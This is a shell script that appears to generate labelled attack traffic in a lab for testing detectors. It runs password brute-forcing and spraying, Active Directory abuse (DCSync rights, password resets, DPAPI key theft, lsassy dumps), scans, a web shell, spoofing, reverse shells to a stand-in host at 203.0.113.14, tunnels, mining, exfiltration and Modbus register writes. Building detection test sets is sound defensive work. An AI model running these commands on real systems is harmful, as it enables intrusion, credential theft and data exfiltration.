# attacks_third.sh: a third set of attacks, with other tools than attacks.sh and attacks_more.sh: chosen and written
# before any of it had been seen by a detector.
half=3
P() { at att "$bin/$1" "${@:2}"; }
far=203.0.113.14 # where the intruder's servers are

# ---- guessing secrets
scenario login-bruteforce patator_ssh
patator_ssh() { words; A patator ssh_login host=$lin user=evelien password=FILE0 0="$dir/secrets" -t 4 -x ignore:mesg='Authentication failed.'; }
scenario login-bruteforce ncrack_ssh
ncrack_ssh() { words; A ncrack -T3 --user root -P "$dir/secrets" ssh://$web; }
scenario login-bruteforce+cleartext-credentials medusa_imap
medusa_imap() { words; A medusa -h $mail -u evelien -P "$dir/secrets" -M imap -t 3; }
scenario login-bruteforce medusa_mysql
medusa_mysql() { words; A medusa -h $db -u app -P "$dir/secrets" -M mysql -t 2; }
scenario login-bruteforce+rdp-anomaly ncrack_rdp
ncrack_rdp() { words; bg lin xrdp --nodaemon; sleep 1; A hydra -l evelien -P "$dir/secrets" -t 2 $lin rdp; A ncrack --user evelien -P "$dir/secrets" rdp://$lin; }
scenario login-bruteforce hydra_vnc
hydra_vnc() { words; mkdir -p "$dir/vncx"; printf 'Zomer26\n' | vncpasswd -f >"$dir/vncx/p"; bg lin Xtigervnc :8 -rfbport 5908 -localhost=0 -SecurityTypes VncAuth -BlacklistThreshold 10000 -PasswordFile "$dir/vncx/p"; sleep 2; A hydra -s 5908 -P "$dir/secrets" -t 1 $lin vnc; }
scenario login-spray,login-bruteforce patator_smb
patator_smb() { words; A patator smb_login host=$files user=FILE0 password=Herfst2026 0="$dir/users" -t 4; }
scenario user-enumeration,login-spray kerbrute_users
kerbrute_users() { words 300; P kerbrute -domain lab.example -dc-ip $dc -users "$dir/words" -password Herfst2026 -threads 4; }
scenario login-spray,user-enumeration,login-bruteforce kerbrute_spray
kerbrute_spray() { P kerbrute -domain lab.example -dc-ip $dc -users "$dir/users" -password Herfst2026 -threads 2; }
scenario login-bruteforce,user-enumeration sip_register
sip_register() { bg pc3 "$py" "$here/agent.py" sipd $net.53; sleep 1; A svcrack -u 110 -r1000-1200 $net.53; }

# ---- the domain
scenario directory-recon bloodyad_all
bloodyad_all() { for q in "children" "writable" "trusts" "dnsDump"; do P bloodyAD -d lab.example -u user1 -p Lente2026 --host dc1.lab.example --dc-ip $dc get $q; done; }
scenario directory-recon pywerview
pywerview() { for q in get-netuser get-netgroup get-netcomputer get-netgpo get-netshare get-netsession get-netloggedon invoke-userhunter; do P pywerview $q -w lab.example -u user1 -p Lente2026 -t $dc --computername $dc; P pywerview $q -w lab.example -u user1 -p Lente2026 -t $dc; done; }
scenario directory-recon adidns_dump
adidns_dump() { (cd "$dir" && P adidnsdump -u 'LAB\user1' -p Lente2026 -r $dc); }
scenario directory-recon bloodhound_py
bloodhound_py() { (cd "$dir" && P bloodhound-python -d lab.example -u user1 -p Lente2026 -ns $dc -dc dc1.lab.example -c All --dns-tcp --disable-autogc --auth-method ntlm); }
scenario directory-recon smbmap_shares
smbmap_shares() { A smbmap -H $files -u evelien -p Zomer2026 -r; for h in $dc $files $lin $web $db; do A smbmap -H $h -u user1 -p Lente2026 -d LAB; done; }
scenario directory-recon net_py
net_py() { imp net LAB/user1:Lente2026@$dc user; imp net LAB/user1:Lente2026@$dc group; imp net LAB/user1:Lente2026@$dc localgroup; imp net LAB/user1:Lente2026@$dc computer; for n in 1 2 3 4 5; do imp net LAB/user1:Lente2026@$dc user -name user$n; done; imp net LAB/user1:Lente2026@$dc group -name 'Domain Admins'; }
scenario directory-recon,user-enumeration sid_lookup
sid_lookup() { imp lookupsid LAB/user1:Lente2026@$dc 1200; A polenum --username user1 --password Lente2026 --domain $dc; }
scenario credential-theft,directory-recon rights_rewritten
rights_rewritten() { for h in 7 8; do imp dacledit -action write -rights DCSync -principal user1 -target-dn DC=lab,DC=example -dc-ip $dc LAB/Administrator:Winter2026!; done; imp rbcd -delegate-from user1 -delegate-to 'DC1$' -action write -dc-ip $dc LAB/Administrator:Winter2026!; imp addcomputer -computer-name 'PCX$' -computer-pass Abc12345 -dc-ip $dc -method SAMR LAB/user1:Lente2026; P bloodyAD -d lab.example -u Administrator -p Winter2026! --host dc1.lab.example --dc-ip $dc set password user12 Gestolen2026; }
scenario credential-theft changed_secret
changed_secret() { imp changepasswd -reset -altuser LAB/Administrator -altpass Winter2026! -newpass GestolenWoord2026 LAB/user13@$dc; imp changepasswd -reset -altuser LAB/Administrator -altpass Winter2026! -newpass GestolenWoord2026 LAB/user14@$dc; }
scenario credential-theft dpapi_key
dpapi_key() { imp dpapi backupkeys -t LAB/Administrator:Winter2026!@$dc; }
scenario forced-authentication coercer_all
coercer_all() { for h in $dc $files; do P coercer coerce -u user1 -p Lente2026 -d LAB -t $h -l $net.66 --always-continue; done; }
scenario remote-execution,executable-transfer lsassy_dump
lsassy_dump() { P lsassy -d . -u root -p Zomer2026 $files; P lsassy -d LAB -u Administrator -p Winter2026! $dc; }
scenario kerberos-roasting asrep_minikerberos
asrep_minikerberos() { P minikerberos-asreproast -d lab.example -u user7 $dc; imp GetUserSPNs -dc-ip $dc -request LAB.EXAMPLE/user1:Lente2026; }

# ---- looking for hosts and services
scenario scan fping_sweep
fping_sweep() { A fping -a -q -g $net.0/24 -r 0 -i 5; }
scenario scan arping_sweep
arping_sweep() { for n in $(seq 1 120); do A arping -c 1 -w 0.1 -i eth0 $net.$n; done; }
scenario scan netdiscover_lan
netdiscover_lan() { A timeout 40 netdiscover -P -N -i eth0 -r $net.0/24; }
scenario scan nmap_decoys
nmap_decoys() { A nmap -n -Pn -sS -D $net.90,$net.91,$net.92 --top-ports 60 $files; }
scenario scan nmap_protocols
nmap_protocols() { A nmap -n -Pn -sO $web; A nmap -n -Pn -sM --top-ports 60 $web; A nmap -n -Pn -sW --top-ports 60 $lin; }
scenario scan nmap_idle
nmap_idle() { A nmap -n -Pn -sI $net.53 -p 21,22,25,80,110,139,143,443,445,3306 $lin; A nmap -n -Pn -f -sS --top-ports 60 $lin; }
scenario scan nmap_six
nmap_six() { for h in att lin web files; do at $h ip addr add "fd66::${addr[$h]}/64" dev eth0 nodad; done; A nmap -6 -n -Pn -sS --top-ports 100 fd66::24; A alive6 eth0; }
scenario scan masscan_ports
masscan_ports() { A masscan $lin $web $files -p1-2000 --rate 300 --wait 2; }
scenario scan pivot_connect
pivot_connect() { for n in $(seq 1 60); do at lin timeout 1 nc.traditional -z -w 1 $net.$n 445 & [ $((n % 10)) = 0 ] && wait; done; wait; }
scenario scan,directory-recon,dns-tunnel dns_words
dns_words() { A dnsrecon -d lab.example -n $dc -D /usr/share/dnsenum/dns.txt -t brt --threads 4; A fierce --domain lab.example --dns-servers $dc; }
scenario scan,directory-recon dns_transfer
dns_transfer() { A dnsrecon -n $dc -r $net.0-$net.255; A dig axfr lab.example @$dc; }
scenario scan snmp_braa
snmp_braa() { A braa public@$net.1-$net.120:161:.1.3.6.1.2.1.1.1.0; }

# ---- web
scenario web-exploit,scan ffuf_words
ffuf_words() { A ffuf -s -u http://$web/FUZZ -w /usr/share/dirb/wordlists/common.txt -t 8; }
scenario web-exploit,scan dirsearch_words
dirsearch_words() { A /usr/bin/python3 "$(command -v dirsearch)" -q -u http://$web/ -t 6 --max-rate 150; }
scenario web-exploit wapiti_all
wapiti_all() { A wapiti -u "http://$web/search?q=1" -m sql,exec,file,xss --flush-session -o "$dir/wapiti" -f txt; A sqlmap -u "http://$web/search?q=1" --batch --flush-session --technique=T --output-dir "$dir/sqlmap2"; }
scenario web-exploit nmap_web
nmap_web() { A nmap -n -Pn -p 80 --script 'http-vuln-*,http-passwd,http-phpmyadmin-dir-traversal' $web; A whatweb -a 4 http://$web/; }
scenario web-exploit,c2-channel weevely_shell
weevely_shell() { local w=$(command -v weevely); mkdir -p "$dir/php"; /usr/bin/python3 "$w" generate geheim1 "$dir/php/agent.php"; bg web php -S $web:8085 -t "$dir/php"; sleep 2; for c in id 'uname -a' 'ls /etc' 'cat /etc/passwd' ':system_info' 'ps aux'; do A /usr/bin/python3 "$w" "http://$web:8085/agent.php" geheim1 "$c"; done; }

# ---- deception
scenario arp-spoofing bettercap_arp
bettercap_arp() { A timeout 30 bettercap -no-colors -iface eth0 -eval "set arp.spoof.targets $net.53; arp.spoof on; sleep 22; quit"; }
scenario arp-spoofing,scan yersinia_dhcp
yersinia_dhcp() { A timeout 15 yersinia dhcp -attack 1 -interface eth0; }
scenario arp-spoofing,forced-authentication mitm_six
mitm_six() { bg pc1 timeout 30 "$py" "$here/work.py" dhcp6; P mitm6 -i eth0 -d lab.example --ignore-nofqdn & sleep 30; kill %1; }

# ---- channels
scenario c2-channel,beacon,proxy-pivot pproxy_back
pproxy_back() { bg out "$bin/pproxy" -l socks5+in://$far:8081 -l socks5://127.0.0.1:1082; sleep 2; bg lin "$bin/pproxy" -r socks5+in://$far:8081; sleep 3; for n in $(seq 12); do at out curl -s -o /dev/null -x socks5h://127.0.0.1:1082 "http://$web/page$n.html"; sleep 1.5; done; }
scenario c2-channel shell_ncat_tls
shell_ncat_tls() { (for c in id 'uname -a' 'ls -la /etc' 'cat /etc/passwd' 'ps aux' 'ip addr' exit; do sleep 2.5; echo "$c"; done) | at out ncat --ssl -l $far 443 & sleep 1; at lin timeout 40 ncat --ssl $far 443 -e /bin/sh; }
scenario c2-channel shell_pwncat
shell_pwncat() { (for c in id 'uname -a' 'ls -la /etc' 'cat /etc/passwd' 'ps aux' exit; do sleep 2.5; echo "$c"; done) | at out "$bin/pwncat" -l $far 5555 & sleep 2; at lin timeout 40 "$bin/pwncat" -e /bin/bash $far 5555; }
scenario c2-channel,beacon shell_perl
shell_perl() { agent out handler $far 18861 & sleep 1; at pc2 timeout 45 perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(18861,inet_aton("203.0.113.14")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'; }
scenario c2-channel,beacon stager_python
stager_python() { agent out stage $far 4445 & sleep 4; agent pc1 stager $far 4445; kill %1; }
scenario c2-channel,beacon stunnel_shell
stunnel_shell() { printf 'foreground = yes\npid =\nsyslog = no\n[s]\naccept = %s:4443\nconnect = 127.0.0.1:4444\ncert = %s/own.both\n' $far "$dir" >"$dir/st1.conf"; printf 'foreground = yes\npid =\nsyslog = no\n[c]\nclient = yes\naccept = 127.0.0.1:4444\nconnect = %s:4443\n' $far >"$dir/st2.conf"; bg out stunnel "$dir/st1.conf"; bg lin stunnel "$dir/st2.conf"; agent out handler 127.0.0.1 4444 & sleep 2; at lin timeout 40 bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'; }
scenario c2-channel,icmp-tunnel ptunnel_ssh
ptunnel_ssh() { bg out ptunnel-ng -R22; sleep 1; bg lin ptunnel-ng -p $far -l 2223 -r127.0.0.1 -R22; sleep 2; for n in $(seq 8); do at lin ssh -p 2223 $(key) root@127.0.0.1 "id; cat /etc/services | head -200"; sleep 1; done; }
scenario c2-channel,beacon httptunnel_ssh
httptunnel_ssh() { bg out hts -F 127.0.0.1:22 8888; sleep 1; bg lin htc -F 2224 $far:8888; sleep 2; for n in 1 2 3 4; do at lin timeout 15 ssh -p 2224 $(key) root@127.0.0.1 "id; ls /etc; sleep 3"; sleep 1; done; }
scenario c2-channel,proxy-pivot,beacon proxytunnel_ssh
proxytunnel_ssh() { printf 'http_port %s.1:3128\nacl l src %s.0/24\nhttp_access allow l\ncache deny all\ncache_log /dev/null\npid_filename %s/sq2.pid\ncoredump_dir %s\n' $net $net "$dir" "$dir" >"$dir/sq2.conf"; bg gw squid -N -f "$dir/sq2.conf"; sleep 3; for n in 1 2 3 4 5; do at lin timeout 20 ssh $(key) -o "ProxyCommand=proxytunnel -q -p $net.1:3128 -d 203.0.113.12:22" root@203.0.113.12 "id; ls /etc; sleep 3"; done; }
scenario c2-channel,beacon sshuttle_out
sshuttle_out() { at lin timeout 40 ssh -N -D 1085 -R 7022:localhost:22 $(key) -p 22 root@203.0.113.12 & sleep 3; for n in $(seq 8); do at out ssh -p 7022 $(key) root@127.0.0.1 "id; ps aux | head -30"; sleep 2.5; done; kill %1; }
scenario c2-channel,beacon https_longpoll 10
https_longpoll() { agent pc3 beacon https://203.0.113.15/jquery-3.3.1.min.js 45 1.5 .45; }
scenario beacon,c2-channel udp_beacon 30
udp_beacon() { bg out socat UDP-RECVFROM:8899,fork EXEC:'head -c 24'; sleep 1; for n in $(seq 45); do head -c 24 /dev/urandom | at pc2 timeout 1 nc.traditional -u -w 1 -q 0 $far 8899; sleep .6; done; }
scenario cryptomining stratum_bitcoin
stratum_bitcoin() { agent out pool $far 3334 & sleep 1; agent pc1 miner_bitcoin $far 3334; kill %1; }

# ---- data that leaves
scenario exfiltration s3_out
s3_out() { bg out "$bin/moto_server" -H $far -p 9000; sleep 8; mkdir -p "$dir/s3x"; for n in $(seq 26); do head -c 10000000 /dev/urandom >"$dir/s3x/$n.7z"; done; export AWS_ACCESS_KEY_ID=a AWS_SECRET_ACCESS_KEY=b; at files aws --endpoint-url http://$far:9000 --region eu-west-1 s3 mb s3://buit; at files aws --endpoint-url http://$far:9000 --region eu-west-1 s3 cp --quiet --recursive "$dir/s3x" s3://buit/; }
scenario exfiltration restic_out
restic_out() { mkdir -p "$dir/rx"; for n in $(seq 25); do head -c 10000000 /dev/urandom >"$dir/rx/$n.bin"; done; bg out rclone serve restic --addr $far:8009 "$dir/rxout"; sleep 2; export RESTIC_PASSWORD=x; at db restic -r rest:http://$far:8009/ init; at db restic -r rest:http://$far:8009/ backup "$dir/rx"; }
scenario exfiltration paste_site
paste_site() { for n in $(seq 40); do head -c 45000 /dev/urandom | base64 >"$dir/paste"; at pc2 curl -s -o /dev/null -F "content=@$dir/paste" http://203.0.113.15/api/paste; sleep .3; done; }
scenario dns-tunnel,exfiltration dns_txt_pull
dns_txt_pull() { agent pc1 dnspull bx.example 120; }
scenario exfiltration,icmp-tunnel ping_file
ping_file() { head -c 30000 /etc/services | xxd -p -c 16 >"$dir/hex"; head -n 200 "$dir/hex" | while read -r h; do at pc1 ping -q -c 1 -W 1 -s 48 -p "$h" $far; done; }

# ---- controllers
scenario ics-command mbpoll_write
mbpoll_write() { A mbpoll -m tcp -a 1 -r 1 -c 20 -1 $dev; for n in 1 5 9 13; do A mbpoll -m tcp -a 1 -r $n -t 4 $dev 999 888 777; A mbpoll -m tcp -a 1 -r $n -t 0 $dev 0 0 0; done; }
scenario ics-command,scan nmap_controllers
nmap_controllers() { A nmap -n -Pn -p 102,502 --script s7-info,modbus-discover --script-args modbus-discover.aggressive=true $dev; A nmap -n -Pn -sU -p 47808 --script bacnet-info $dev; }
